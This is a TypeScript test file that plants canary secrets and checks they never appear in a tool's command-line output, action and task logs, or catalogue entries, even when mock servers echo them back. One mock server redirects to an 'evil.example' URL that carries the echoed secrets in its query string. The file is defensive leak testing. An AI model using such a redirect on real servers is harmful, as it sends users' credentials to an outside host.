import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { inputRows } from '../../src/core/inputs/table.ts';
import {
  answer,
  initializeResult,
  legacyReply,
  type Received,
  result,
  rpcError,
  type ScriptedServer,
  serve,
  tool,
} from '../core/probe/scripted-server.ts';
import { runAction } from '../support/action.ts';
import { assertNoCanary, canary } from '../support/canary.ts';
import { startTarget } from '../support/center.ts';
import { runCli } from '../support/cli.ts';
import { service } from '../support/run.ts';
import { runTask } from '../support/task.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

/** One for each secret input. Each looks different in a URL, in JSON and in Base64. */
const secrets: Readonly<Record<string, string>> = {
  'function-key': `${canary}-"k+/y=\\7%`,
  'probe-headers': `X-Api-Key: ${canary} he"ad/er+\\\nAuthorization: Bearer ${canary}.be"ar/er+`,
  'github-token': `${canary}-gh"tok/en+`,
};

test('every secret input has its canary', () => {
  assert.deepEqual(
    inputRows
      .filter(({ secret }) => secret)
      .map(({ name }) => name)
      .toSorted(),
    Object.keys(secrets).toSorted(),
  );
});

test('a canary is found as it is, and wherever it stands in Base64', () => {
  for (const text of [
    canary,
    `x${canary}y`,
    encodeURIComponent(`"${canary}"`),
    JSON.stringify(`"${canary}\\`),
  ]) {
    assert.throws(() => assertNoCanary(text, 'a test'));
    for (const before of ['', 'a', 'ab', 'Bearer ']) {
      assert.throws(() => assertNoCanary(Buffer.from(`${before}${text}`).toString('base64'), 'a test'));
    }
  }
  assertNoCanary('nothing', 'a test');
});

/** All that a request brought, in every form in which a server may give it back. */
function parrot({ headers }: Received): string {
  const brought = ['x-functions-key', 'x-api-key', 'authorization']
    .map((name) => headers[name])
    .filter((value) => typeof value === 'string')
    .flatMap((value) => [value, value.replace(/^Bearer /, '')]);
  const forms = brought.flatMap((value) => [
    value,
    encodeURIComponent(value),
    JSON.stringify(value),
    Buffer.from(value).toString('base64'),
    Buffer.from(value).toString('base64url'),
  ]);
  return forms.join(' ');
}

/** A healthy server that repeats in everything it lists what it was given. */
const repeating = legacyReply({
  initialize: (received, response) =>
    result(
      received,
      response,
      {
        ...initializeResult,
        capabilities: { tools: { [parrot(received)]: parrot(received) } },
        instructions: parrot(received),
        serverInfo: { name: parrot(received), version: '1', description: parrot(received) },
      },
      { 'mcp-session-id': 'session' },
    ),
  'tools/list': (received, response) =>
    result(received, response, {
      tools: [
        {
          ...tool,
          title: parrot(received),
          description: parrot(received),
          inputSchema: { type: 'object', properties: { [parrot(received)]: { title: parrot(received) } } },
        },
        { name: 'no schema', description: parrot(received) },
      ],
    }),
});

const refusing = (received: Received, response: Parameters<typeof answer>[0]) =>
  received.method === 'POST'
    ? rpcError(received, response, 400, -32000, parrot(received), parrot(received))
    : answer(response, 403, `<title>${parrot(received)}</title>`, 'text/html');

describe('no secret is in anything that is said or written, although the server repeats each', () => {
  const servers: Record<string, ScriptedServer> = {};
  before(async () => {
    servers['a healthy server'] = await serve(repeating);
    servers['a server that refuses'] = await serve(refusing);
    servers['a server that redirects'] = await serve((received, response) =>
      answer(response, 307, parrot(received), 'text/plain', {
        location: `https://evil.example/?code=${encodeURIComponent(parrot(received))}`,
      }),
    );
  });
  after(async () => {
    for (const server of Object.values(servers)) await server[Symbol.asyncDispose]();
  });

  for (const what of ['a healthy server', 'a server that refuses', 'a server that redirects']) {
    const urlOf = () => servers[what]?.url ?? '';
    const given = { ...secrets, 'probe-timeout': '0', title: 'Parrot' };

    test(`${what}: the command line, its report and its state`, async (t) => {
      const folder = temporaryFolder(t);
      for (const more of [[], ['--verbose'], ['--output', 'json', '--verbose']]) {
        const args = Object.entries({ ...given, 'server-url': urlOf(), state: join(folder, 'state.json') });
        await runCli(['register', ...args.flatMap(([name, value]) => [`--${name}`, value]), ...more], {
          cwd: folder,
        });
      }
    });

    test(`${what}: the action, its summary, outputs and debug log, and the catalogue`, async (t) => {
      const { inputs, emulator } = await startTarget(t, urlOf());
      await runAction(t, { ...inputs, ...given }, { env: { RUNNER_DEBUG: '1' } });
      assertNoCanary(JSON.stringify([...emulator.contents()]), 'the catalogue');
      assertNoCanary(JSON.stringify(emulator.requests()), 'the recorded requests');
      assertNoCanary(await (await fetch(`${emulator.url}/`)).text(), 'the page');
    });

    test(`${what}: the task, its summary, variables and debug log, and the catalogue`, async (t) => {
      const { inputs, emulator } = await startTarget(t, urlOf());
      await runTask(t, { ...inputs, ...given }, { env: { SYSTEM_DEBUG: 'true' } });
      assertNoCanary(JSON.stringify([...emulator.contents()]), 'the catalogue');
    });
  }

  test('an operation’s signed address: it is polled, and shown nowhere', async (t) => {
    const { inputs, emulator } = await startTarget(t, servers['a healthy server']?.url ?? '');
    const location = `${emulator.url}/operationResults/1?s=${canary}&t=1`;
    emulator.setFaults([
      { method: 'POST', path: 'importSpecification', status: 202, body: '', headers: { location } },
      { path: 'operationResults', status: 403, body: { code: 'X', message: `no: ${location}` }, times: 9 },
    ]);
    const target = [
      'subscription-id',
      'resource-group',
      'api-center-name',
      'arm-endpoint',
      'server-url',
      'title',
    ];
    const args = Object.entries(inputs).filter(([name]) => target.includes(name));
    const told = ['register', ...args.flatMap(([name, value]) => [`--${name}`, value]), '--verbose'];
    assert.notEqual(service.name, '');
    const { code } = await runCli(told);
    assert.equal(code, 6);
  });
});
